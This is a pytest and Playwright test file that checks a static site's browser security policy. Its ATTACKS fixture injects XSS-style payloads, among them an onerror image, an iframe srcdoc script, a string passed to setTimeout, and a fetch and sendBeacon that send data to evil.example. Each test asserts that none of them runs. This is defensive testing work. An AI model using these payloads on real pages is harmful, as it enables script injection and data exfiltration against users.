"""What a page may load and run holds in a real browser: everything works, and nothing else runs or leaves."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import served, watched


@pytest.fixture(scope="module")
def address(bakery: Path) -> Iterator[str]:
    with served(bakery / "site") as at:
        yield at


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    context = browser.new_context(base_url=address)
    with watched(context, address) as tab:
        yield tab
    context.close()


def pages_of(site: Path) -> list[str]:
    return [path.relative_to(site).as_posix() for path in sorted(site.rglob("*.html"))]


def test_no_page_asks_another_host_or_breaks_the_policy(page: Page, bakery: Path) -> None:
    """`watched` fails on any request to another host and on any violation, which a browser reports as an error."""
    for path in pages_of(bakery / "site"):
        page.goto(path)


def test_light_and_dark_are_kept_across_trades(page: Page) -> None:
    page.goto("bakery/index.html")
    page.locator("form[data-md-component=palette] label:visible").click()
    page.goto("bakery/exercises/every-kind.html")
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")


ATTACKS = """() => {
  const ran = window.ran = [];
  const made = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  made("script", { textContent: "ran.push('inline')" });
  made("script", { src: "evil.js" });
  made("script", { src: "https://evil.example/evil.js" });
  made("img", { src: "https://evil.example/pixel.png" });
  made("iframe", { srcdoc: "<script>parent.ran.push('frame')</script>" });
  made("style", { textContent: "body { display: none }" });
  document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=ran.push(1)><p style='position:fixed'></p>");
  setTimeout("ran.push('eval')", 0);
  fetch("https://evil.example/").catch(() => {});
  navigator.sendBeacon("https://evil.example/", "notes");
}"""


def test_what_was_written_into_a_page_does_not_run(browser: Browser, bakery: Path, address: str) -> None:
    """Without our escaping, and with the policy of the page alone, as on a host that sends no headers."""
    context = browser.new_context()
    tab = context.new_page()
    asked: list[str] = []
    tab.on("requestfinished", lambda sent: asked.append(sent.url))
    tab.route("**/evil.js", lambda route: route.fulfill(body="ran.push('file')", content_type="text/javascript"))
    tab.route("**/a-z.html", lambda route: route.fulfill(path=bakery / "site/bakery/a-z.html", content_type="text/html"))
    tab.goto(address + "bakery/a-z.html")
    tab.evaluate(ATTACKS)
    tab.wait_for_timeout(300)
    assert tab.evaluate("ran") == []
    expect(tab.locator("body")).to_be_visible()
    assert not [url for url in asked if "evil" in url]
    context.close()


def test_from_a_disk_everything_starts_too(browser: Browser, bakery: Path) -> None:
    context = browser.new_context()
    tab = context.new_page()
    wrong: list[str] = []
    tab.on("console", lambda message: wrong.append(message.text) if message.type == "error" else None)
    tab.goto((bakery / "site" / "bakery" / "exercises" / "every-kind.html").as_uri())
    tab.locator("hb-answers[ready]").wait_for()
    tab.locator("form[data-md-component=palette] label:visible").click()
    expect(tab.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    assert [text for text in wrong if re.search("Security|[Ii]ntegrity", text)] == []
    context.close()
